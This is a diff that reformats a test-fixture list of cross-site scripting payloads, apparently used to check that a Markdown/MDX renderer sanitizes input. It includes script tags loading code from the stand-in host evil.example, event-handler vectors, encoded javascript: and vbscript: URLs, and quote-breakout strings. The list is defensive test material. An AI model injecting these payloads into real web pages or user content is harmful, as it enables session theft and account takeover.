@@ -33,9 +33,21 @@ export const PAYLOADS: Payload[] = [
     md: `<ScRiPt>${FIRE}</sCrIpT>`,
     mdx: { jsx: '<SCRIPT src="https://evil.example/x.js" />', code: 'mdx-element' },
   },
-  { name: 'script-src-external', payloadClass: 'script tag, external source', md: '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>' },
-  { name: 'script-nested-split', payloadClass: 'script tag, split to survive one-pass filters', md: `<scr<script>ipt>${FIRE}</scr</script>ipt>` },
-  { name: 'script-extraneous-brackets', payloadClass: 'script tag, extraneous open brackets', md: `<<SCRIPT>${FIRE};//<</SCRIPT>` },
+  {
+    name: 'script-src-external',
+    payloadClass: 'script tag, external source',
+    md: '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
+  },
+  {
+    name: 'script-nested-split',
+    payloadClass: 'script tag, split to survive one-pass filters',
+    md: `<scr<script>ipt>${FIRE}</scr</script>ipt>`,
+  },
+  {
+    name: 'script-extraneous-brackets',
+    payloadClass: 'script tag, extraneous open brackets',
+    md: `<<SCRIPT>${FIRE};//<</SCRIPT>`,
+  },
   {
     name: 'script-in-expression',
     payloadClass: 'script tag as MDX expression',
@@ -49,14 +61,22 @@ export const PAYLOADS: Payload[] = [
     md: `<img src=x onerror="${FIRE}">`,
     mdx: { jsx: `<img src="x" onError="${FIRE}" />`, code: 'mdx-element' },
   },
-  { name: 'img-onerror-no-quotes', payloadClass: 'event handler, no quotes, no spaces', md: '<IMG SRC=/ onerror="window.xssFired=1"></img>' },
+  {
+    name: 'img-onerror-no-quotes',
+    payloadClass: 'event handler, no quotes, no spaces',
+    md: '<IMG SRC=/ onerror="window.xssFired=1"></img>',
+  },
   {
     name: 'svg-onload',
     payloadClass: 'event handler on svg',
     md: `<svg onload="${FIRE}"></svg>`,
     mdx: { jsx: `<svg onLoad="${FIRE}" />`, code: 'mdx-element' },
   },
-  { name: 'svg-animate', payloadClass: 'svg animation event', md: `<svg><animate onbegin="${FIRE}" attributeName=x dur=1s>` },
+  {
+    name: 'svg-animate',
+    payloadClass: 'svg animation event',
+    md: `<svg><animate onbegin="${FIRE}" attributeName=x dur=1s>`,
+  },
   {
     name: 'body-onload',
     payloadClass: 'event handler on body',
@@ -69,8 +89,16 @@ export const PAYLOADS: Payload[] = [
     md: `<details open ontoggle="${FIRE}"><summary>Mehr</summary>Text</details>`,
     mdx: { jsx: `<details open onToggle="${FIRE}">Text</details>`, code: 'mdx-element' },
   },
-  { name: 'bold-onmouseover', payloadClass: 'event handler on an allowed inline element', md: `<b onmouseover="${FIRE}" onclick="${FIRE}">fett</b>` },
-  { name: 'input-autofocus', payloadClass: 'event handler fired by autofocus', md: `<input autofocus onfocus="${FIRE}">` },
+  {
+    name: 'bold-onmouseover',
+    payloadClass: 'event handler on an allowed inline element',
+    md: `<b onmouseover="${FIRE}" onclick="${FIRE}">fett</b>`,
+  },
+  {
+    name: 'input-autofocus',
+    payloadClass: 'event handler fired by autofocus',
+    md: `<input autofocus onfocus="${FIRE}">`,
+  },
   {
     name: 'media-onerror',
     payloadClass: 'event handler on audio/video/source',
@@ -94,7 +122,9 @@ export const PAYLOADS: Payload[] = [
   {
     name: 'hinweis-title-breakout',
     payloadClass: 'attribute breaking out of quotes (component)',
-    mdx: { body: `<Hinweis titel='"><script>${FIRE}</script><img src=x onerror="${FIRE}">'>Text</Hinweis>` },
+    mdx: {
+      body: `<Hinweis titel='"><script>${FIRE}</script><img src=x onerror="${FIRE}">'>Text</Hinweis>`,
+    },
   },
   // javascript: URLs and their encodings
   {
@@ -103,7 +133,11 @@ export const PAYLOADS: Payload[] = [
     md: `<a href="javascript:${FIRE}">Link</a>`,
     mdx: { jsx: `<a href="javascript:${FIRE}">Link</a>`, code: 'mdx-element' },
   },
-  { name: 'href-mixed-case', payloadClass: 'javascript: URL, mixed case', md: `<a href="JaVaScRiPt:${FIRE}">Link</a>` },
+  {
+    name: 'href-mixed-case',
+    payloadClass: 'javascript: URL, mixed case',
+    md: `<a href="JaVaScRiPt:${FIRE}">Link</a>`,
+  },
   {
     name: 'href-decimal-entities',
     payloadClass: 'javascript: URL, decimal character references',
@@ -144,7 +178,11 @@ export const PAYLOADS: Payload[] = [
     payloadClass: 'javascript: URL, embedded NUL',
     md: '<a href="java\u0000script:window.xssFired=1">A</a> <a href="java&#0;script:window.xssFired=1">B</a>',
   },
-  { name: 'href-vbscript', payloadClass: 'vbscript: URL', md: '<a href="vbscript:msgbox(1)">Link</a>' },
+  {
+    name: 'href-vbscript',
+    payloadClass: 'vbscript: URL',
+    md: '<a href="vbscript:msgbox(1)">Link</a>',
+  },
   {
     name: 'href-data',
     payloadClass: 'data: URL',
@@ -162,7 +200,11 @@ export const PAYLOADS: Payload[] = [
     md: `<iframe srcdoc="<script>${FIRE}</script>"></iframe>`,
     mdx: { jsx: `<iframe srcDoc="<script>${FIRE}</script>" />`, code: 'mdx-element' },
   },
-  { name: 'iframe-javascript', payloadClass: 'iframe with javascript: src', md: `<iframe src="javascript:${FIRE}"></iframe>` },
+  {
+    name: 'iframe-javascript',
+    payloadClass: 'iframe with javascript: src',
+    md: `<iframe src="javascript:${FIRE}"></iframe>`,
+  },
   {
     name: 'object-embed',
     payloadClass: 'object and embed',
@@ -180,13 +222,24 @@ export const PAYLOADS: Payload[] = [
     md: `<math><mi xlink:href="javascript:${FIRE}">x</mi></math><math><mtext><table><mglyph><style><img src=x onerror="${FIRE}">`,
   },
   // Page-level takeovers
-  { name: 'meta-refresh', payloadClass: 'meta refresh', md: `<meta http-equiv="refresh" content="0;url=javascript:${FIRE}">` },
-  { name: 'base-href', payloadClass: 'base href', md: '<base href="javascript:window.xssFired=1//">' },
+  {
+    name: 'meta-refresh',
+    payloadClass: 'meta refresh',
+    md: `<meta http-equiv="refresh" content="0;url=javascript:${FIRE}">`,
+  },
+  {
+    name: 'base-href',
+    payloadClass: 'base href',
+    md: '<base href="javascript:window.xssFired=1//">',
+  },
   {
     name: 'form-action',
     payloadClass: 'form action and formaction',
     md: `<form action="javascript:${FIRE}"><button formaction="javascript:${FIRE}">Senden</button><input type="image" src="javascript:${FIRE}"></form>`,
-    mdx: { jsx: `<form action="javascript:${FIRE}"><button>Senden</button></form>`, code: 'mdx-element' },
+    mdx: {
+      jsx: `<form action="javascript:${FIRE}"><button>Senden</button></form>`,
+      code: 'mdx-element',
+    },
   },
   {
     name: 'style-expression',
@@ -205,7 +258,11 @@ export const PAYLOADS: Payload[] = [
     payloadClass: 'attribute breaking quotes',
     md: `<img src="x" alt="a"onerror="${FIRE}"> <a href="https://example.org" title='a' onmouseover=${FIRE}>Link</a>`,
   },
-  { name: 'malformed-img-quotes', payloadClass: 'malformed tag with quotes', md: `<IMG """><SCRIPT>${FIRE}</SCRIPT>">` },
+  {
+    name: 'malformed-img-quotes',
+    payloadClass: 'malformed tag with quotes',
+    md: `<IMG """><SCRIPT>${FIRE}</SCRIPT>">`,
+  },
   { name: 'unclosed-tag', payloadClass: 'half-open tag', md: `<img src=x onerror="${FIRE}"//` },
   {
     name: 'noscript-breakout',
@@ -222,9 +279,18 @@ export const PAYLOADS: Payload[] = [
     payloadClass: 'comments and conditional comments',
     md: `<!--<script>${FIRE}</script>--> <!--[if gte IE 4]><script>${FIRE}</script><![endif]-->`,
   },
-  { name: 'cdata', payloadClass: 'CDATA section', md: `<![CDATA[<script>${FIRE}</script>]]> <svg><![CDATA[<script>${FIRE}</script>]]></svg>` },
+  {
+    name: 'cdata',
+    payloadClass: 'CDATA section',
+    md: `<![CDATA[<script>${FIRE}</script>]]> <svg><![CDATA[<script>${FIRE}</script>]]></svg>`,
+  },
   // Markdown syntax
-  { name: 'markdown-link', payloadClass: 'Markdown link with javascript:', md: `[Link](javascript:${FIRE}) [Link2](JAVASCRIPT:alert(1))`, mdx: 'markdown' },
+  {
+    name: 'markdown-link',
+    payloadClass: 'Markdown link with javascript:',
+    md: `[Link](javascript:${FIRE}) [Link2](JAVASCRIPT:alert(1))`,
+    mdx: 'markdown',
+  },
   {
     name: 'markdown-link-encoded',
     payloadClass: 'Markdown link with character references and escapes',
@@ -243,7 +309,11 @@ export const PAYLOADS: Payload[] = [
     md: `![Bild](javascript:${FIRE}) ![SVG](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
     mdx: 'markdown',
   },
-  { name: 'autolink', payloadClass: 'autolinks', md: `<javascript:${FIRE}> <vbscript:msgbox(1)> <data:text/html,x>` },
+  {
+    name: 'autolink',
+    payloadClass: 'autolinks',
+    md: `<javascript:${FIRE}> <vbscript:msgbox(1)> <data:text/html,x>`,
+  },
   {
     name: 'reference-definition',
     payloadClass: 'reference definitions',
